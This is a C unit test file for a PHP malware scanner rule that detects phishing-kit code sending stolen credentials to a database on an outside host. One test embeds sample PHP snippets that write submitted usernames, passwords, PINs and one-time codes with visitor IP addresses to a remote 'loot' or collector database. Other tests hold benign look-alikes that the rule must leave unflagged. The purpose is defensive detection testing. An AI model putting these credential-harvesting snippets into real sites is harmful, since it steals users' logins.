/* php.credential_exfil, train6 round: the channels and labels a blind
 * development generator's kits used that the analysis did not know (a
 * database on an outside host, an array key naming the field). Every
 * snippet is written here from the technique, in spellings train6 does not
 * use, with the look-alikes of real applications that must stay quiet. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "scan/php_eval.h"

static struct php_result res;

static const struct php_hit *run(const char *src)
{
	php_result_free(&res);
	php_eval((const unsigned char *)src, strlen(src), false, NULL, &res);
	for (size_t i = 0; i < res.nhits; i++)
		if (!strcmp(res.hits[i].rule, "php.credential_exfil"))
			return &res.hits[i];
	return NULL;
}

static void at_least(const char *src, enum hs_severity sev)
{
	const struct php_hit *h = run(src);
	if (!h || h->sev < sev) {
		fprintf(stderr, "want php.credential_exfil >= %d in: %s\n", (int)sev, src);
		for (size_t i = 0; i < res.nhits; i++)
			fprintf(stderr, "  got %s (%d): %s\n", res.hits[i].rule,
			        (int)res.hits[i].sev, res.hits[i].evidence);
	}
	assert_non_null(h);
	assert_true(h->sev >= sev);
}

static void quiet(const char *src)
{
	const struct php_hit *h = run(src);
	if (h)
		fprintf(stderr, "unexpected: %s\n  in: %s\n", h->evidence, src);
	assert_null(h);
}

/* A kit's victim table in its author's database elsewhere. */
static void test_remote_database(void **state)
{
	(void)state;
	at_least("<?php $c = new PDO('pgsql:host=203.0.113.77;dbname=loot', 'u', 'x');\n"
	         "$s = $c->prepare('INSERT INTO creds VALUES (:a, :b, :c)');\n"
	         "$s->execute([':a' => $_POST['username'], ':b' => $_POST['passwd'], ':c' => "
	         "$_SERVER['REMOTE_ADDR']]);",
	         HS_SEV_HIGH);
	at_least(
	    "<?php $m = new mysqli('store.example-collector.net', 'u', 'x', 'db');\n"
	    "$m->query(\"INSERT INTO t (e, s, a) VALUES ('\" . $_REQUEST['login'] . \"', '\" . "
	    "$_REQUEST['pin'] . \"', '\" . $_SERVER['HTTP_USER_AGENT'] . \"')\");",
	    HS_SEV_HIGH);
	at_least("<?php $l = mysqli_connect('p:198.51.100.9', 'a', 'b', 'c');\n"
	         "mysqli_query($l, sprintf(\"REPLACE INTO v SET x='%s', y='%s', z='%s'\", "
	         "$_POST['email'], $_POST['otp_code'], getenv('REMOTE_ADDR')));",
	         HS_SEV_HIGH);
}

static void test_real_databases_are_quiet(void **state)
{
	(void)state;
	/* the site's own database: an application's users table */
	quiet("<?php $c = new PDO('mysql:host=localhost;dbname=shop', 'u', 'x');\n"
	      "$s = $c->prepare('INSERT INTO users VALUES (?, ?, ?)');\n"
	      "$s->execute([$_POST['email'], $_POST['password'], $_SERVER['REMOTE_ADDR']]);");
	quiet("<?php $c = new PDO('mysql:host=db;dbname=shop', 'u', 'x');\n"
	      "$c->prepare('INSERT INTO users VALUES (?, ?, ?)')->execute([$_POST['email'], "
	      "$_POST['password'], $_SERVER['REMOTE_ADDR']]);");
	/* a managed database elsewhere: the password hashed */
	quiet("<?php $c = new PDO('mysql:host=mydb.cluster-1.rds.example.com;dbname=app', 'u', "
	      "'x');\n"
	      "$s = $c->prepare('INSERT INTO users (email, hash, ip) VALUES (?, ?, ?)');\n"
	      "$s->execute([$_POST['email'], password_hash($_POST['password'], PASSWORD_DEFAULT), "
	      "$_SERVER['REMOTE_ADDR']]);");
	/* an order or a contact message kept elsewhere: no credential */
	quiet("<?php $m = new mysqli('10.0.3.7', 'u', 'x', 'crm');\n"
	      "$m->query(\"INSERT INTO leads VALUES ('\" . $_POST['name'] . \"', '\" . "
	      "$_POST['phone'] . \"', '\" . $_SERVER['REMOTE_ADDR'] . \"')\");");
	quiet("<?php $c = new PDO('mysql:host=203.0.113.5;dbname=crm', 'u', 'x');\n"
	      "$c->prepare('INSERT INTO leads VALUES (?, ?, ?)')->execute([$_POST['name'], "
	      "$_POST['message'], $_SERVER['REMOTE_ADDR']]);");
	/* a login checked against the remote database: a select, no address */
	quiet("<?php $c = new PDO('mysql:host=203.0.113.5;dbname=crm', 'u', 'x');\n"
	      "$s = $c->prepare('SELECT hash FROM users WHERE email = ?');\n"
	      "$s->execute([$_POST['email']]); $r = $s->fetch();\n"
	      "if (password_verify($_POST['password'], $r['hash'])) { $_SESSION['u'] = 1; }");
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_remote_database),
	    cmocka_unit_test(test_real_databases_are_quiet),
	};
	int rc = cmocka_run_group_tests(tests, NULL, NULL);
	php_result_free(&res);
	return rc;
}
